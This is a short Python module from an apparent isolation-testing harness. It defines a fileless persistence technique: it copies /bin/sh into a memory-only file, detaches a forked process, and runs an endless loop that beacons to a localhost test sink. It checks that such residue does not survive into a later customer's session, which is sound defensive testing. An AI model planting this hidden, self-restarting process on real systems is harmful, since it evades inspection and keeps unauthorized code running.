"""Executes a program from a memory file, which no directory shows."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Alive
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
memory = os.memfd_create("x")
with open("/bin/sh", "rb") as file:
    os.write(memory, file.read())
if os.fork() == 0:
    os.setsid()
    os.execv("/proc/self/fd/%d" % memory, [
    "sh", "-c", 'while :; do "$0" -S -c "$1"; done', sys.executable,
    "import socket; socket.socket(2, 2).sendto(b'alive', ('127.0.0.1', %d))" % event["sink"],
])
time.sleep(0.1)
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1620", "T1543"),
    family="M15",
    must_fail_to="run while a later customer is served",
    plant=PLANT,
    evidence=Alive(takes=0.2),
    ends_window=True,
    spoils=True,
    finding="residue.process",
)
